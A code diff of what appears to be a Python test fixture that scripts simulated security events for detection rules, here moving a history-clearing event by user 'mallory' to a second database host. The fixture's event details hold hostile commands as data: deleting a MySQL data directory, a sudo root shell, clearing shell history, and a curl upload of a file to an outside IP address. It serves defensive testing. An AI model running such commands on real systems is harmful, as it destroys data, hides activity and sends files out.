@@ -59,7 +59,9 @@ def build(world, tmp_path) -> dict[str, Path]:
                  detail="rm -rf /var/lib/mysql")
     world.action("root", "2026-11-16T15:02:00Z", account="mallory", target="db-01",
                  action="sudo.command", detail="/bin/bash")
-    world.action("hist", "2026-11-16T15:04:00Z", account="mallory", target="db-01",
+    # on another host than the root shell: the shipped root-shell-then-tamper sequences group
+    # by (actor, target), the user rule below by account only
+    world.action("hist", "2026-11-16T15:04:00Z", account="mallory", target="db-02",
                  action="exec", detail="history -c " + HOSTILE)
     world.action("egress", "2026-11-16T15:05:00Z", account="bob", target="db-01", action="exec",
                  detail="curl -T /tmp/x https://203.0.113.7/u")
